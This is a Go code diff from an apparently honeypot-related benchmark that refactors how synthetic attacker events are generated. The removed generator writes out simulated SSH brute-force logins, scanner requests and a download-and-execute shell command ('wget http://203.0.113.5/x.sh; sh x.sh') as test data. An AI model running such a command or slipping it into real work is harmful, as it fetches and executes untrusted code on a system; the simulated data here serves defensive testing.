@@ -26,6 +26,7 @@ import (
 	"github.com/go-sql-driver/mysql"
 	_ "modernc.org/sqlite"
 
+	"decnet/bench/internal/synth"
 	"decnet/internal/event"
 	"decnet/internal/ingest"
 	"decnet/internal/spool"
@@ -66,7 +67,7 @@ func run(n, batch, chunk int, work string, ceiling bool) error {
 		work = d
 	}
 	spoolDir := filepath.Join(work, "spool")
-	recs := synth(n)
+	recs := records(n)
 	t0 := time.Now()
 	if err := writeSpool(spoolDir, recs); err != nil {
 		return err
@@ -125,30 +126,12 @@ func bench(name string, n int, bare, ing func() (float64, error)) error {
 	return nil
 }
 
-// synth makes n events shaped like real traffic: 2,000 attackers sending runs of 50
-// events each — connects, ssh password guesses (every guess is a new credential:
-// a brute force), http requests (user-agent fingerprints), shell commands.
-func synth(n int) []*spool.Record {
+// records makes the n synthetic events with their canonical lines.
+func records(n int) []*spool.Record {
 	out := make([]*spool.Record, n)
 	base := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
 	for i := range out {
-		e := event.Event{ID: fmt.Sprintf("0190f%011x-7000-8000-%012x", i, i), Time: base.Add(time.Duration(i) * time.Millisecond),
-			Decky: fmt.Sprintf("decky-%02d", i%10), AttackerIP: fmt.Sprintf("10.9.%d.%d", (i/50)%2000/250, (i/50)%2000%250+1), AttackerPort: 1024 + i%60000}
-		switch i % 4 {
-		case 0:
-			e.Service, e.Type = "ssh", "connect"
-			e.Fields = map[string]string{"proto": "tcp"}
-		case 1:
-			e.Service, e.Type = "ssh", "auth"
-			e.Fields = map[string]string{"username": "root", "password": fmt.Sprintf("pass%d", i), "secret_kind": "plaintext",
-				"method": "password", "outcome": "failure", "client_version": "SSH-2.0-libssh2_1.10.0"}
-		case 2:
-			e.Service, e.Type = "http", "request"
-			e.Fields = map[string]string{"method": "GET", "path": fmt.Sprintf("/wp-login.php?id=%d", i), "user_agent": "Mozilla/5.0 (compatible; zgrab/0.x)", "status": "404"}
-		case 3:
-			e.Service, e.Type = "ssh", "command"
-			e.Fields = map[string]string{"command": "cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh", "username": "root"}
-		}
+		e := synth.Event(i, base, time.Millisecond)
 		line, err := event.Format(e)
 		if err != nil {
 			panic(err)
